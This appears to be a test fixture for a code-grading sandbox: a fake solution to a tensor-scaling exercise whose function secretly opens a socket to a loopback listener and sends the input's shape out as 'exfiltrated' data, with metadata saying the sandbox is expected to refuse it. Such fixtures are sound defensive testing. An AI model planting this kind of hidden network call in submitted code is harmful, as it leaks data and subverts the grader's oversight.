"""Connects to a listener on the host's loopback to exfiltrate inputs (port filled in by the test)."""

MODULE = "m03_broadcasting"
ATTACKED = ("3.3",)
FORGES_SCORE = False  # the reduced tier shares the network (SECURITY.md)
REFUSED = "module"  # by the reflection rule, before it runs
NEEDS_LISTENER = True

import socket

import torch


def scale_channels(img, scale):
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=1) as conn:
            conn.sendall(b"exfiltrated " + repr(img.shape).encode())
    except OSError:
        pass
    return torch.zeros_like(img)
